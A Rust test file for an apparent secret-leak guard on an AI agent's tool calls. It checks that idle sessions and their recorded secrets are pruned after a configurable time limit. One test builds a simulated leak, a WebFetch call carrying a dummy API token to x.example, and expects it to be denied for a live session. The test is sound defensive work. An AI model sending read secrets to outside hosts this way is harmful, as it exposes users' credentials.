//! Sessions idle longer than `session_ttl_hours` are pruned with everything recorded for them.

mod common;
use common::*;
use serde_json::json;

#[test]
fn idle_sessions_are_pruned_with_their_records() {
    let home = Home::new();
    let read = |session: &str| {
        read_post(
            session,
            "/repo/.env",
            "API_TOKEN=Zf3D0LXCM3EIMbgJpUNnkRtOfOueHznB\nplain line of text that is long enough to fingerprint\n",
        )
    };
    home.hook(&read("old-session"));
    home.hook(&read("new-session"));
    assert_eq!(home.sql_count("SELECT COUNT(*) FROM secrets"), 2);
    {
        let conn = rusqlite::Connection::open(home.db()).unwrap();
        // 25 hours idle, and the hourly pruning is due.
        conn.execute("UPDATE sessions SET last_seen = last_seen - 25 * 3600 WHERE id = 'old-session'", []).unwrap();
        conn.execute("DELETE FROM meta WHERE key = 'last_prune'", []).unwrap();
    }
    let run = home.hook(&payload("new-session", "PreToolUse", "Read", json!({"file_path": "/repo/a"}), None));
    assert_eq!((run.code, run.stdout.as_str(), run.stderr.as_str()), (0, "", ""));
    assert_eq!(home.sql_count("SELECT COUNT(*) FROM sessions WHERE id = 'old-session'"), 0);
    assert_eq!(home.sql_count("SELECT COUNT(*) FROM sources WHERE session_id = 'old-session'"), 0);
    assert_eq!(home.sql_count("SELECT COUNT(*) FROM fingerprints WHERE session_id = 'old-session'"), 0);
    assert_eq!(home.sql_count("SELECT COUNT(*) FROM secrets WHERE session_id = 'old-session'"), 0);
    assert_eq!(home.sql_count("SELECT COUNT(*) FROM secrets WHERE session_id = 'new-session'"), 1);
    // Freed pages go back to the file system (incremental auto-vacuum runs to the end).
    assert_eq!(home.sql_count("PRAGMA freelist_count"), 0);
    // The pruned session's secret no longer blocks anything; the live one still does.
    let leak = |s: &str| {
        payload(
            s,
            "PreToolUse",
            "WebFetch",
            json!({"url": "https://x.example/?t=Zf3D0LXCM3EIMbgJpUNnkRtOfOueHznB", "prompt": "p"}),
            None,
        )
    };
    assert_eq!(decision(&home.hook(&leak("old-session"))), None);
    assert_eq!(decision(&home.hook(&leak("new-session"))).unwrap().0, "deny");
}

#[test]
fn ttl_is_configurable() {
    let home = Home::new();
    home.write_config(r#"{"session_ttl_hours": 1}"#);
    home.hook(&payload(
        "s1",
        "PostToolUse",
        "Read",
        json!({"file_path": "/a"}),
        Some(json!("some content that is long enough to record")),
    ));
    {
        let conn = rusqlite::Connection::open(home.db()).unwrap();
        conn.execute("UPDATE sessions SET last_seen = last_seen - 2 * 3600", []).unwrap();
        conn.execute("DELETE FROM meta WHERE key = 'last_prune'", []).unwrap();
    }
    home.hook(&payload("s2", "PreToolUse", "Read", json!({}), None));
    assert_eq!(home.sql_count("SELECT COUNT(*) FROM sessions WHERE id = 's1'"), 0);
}
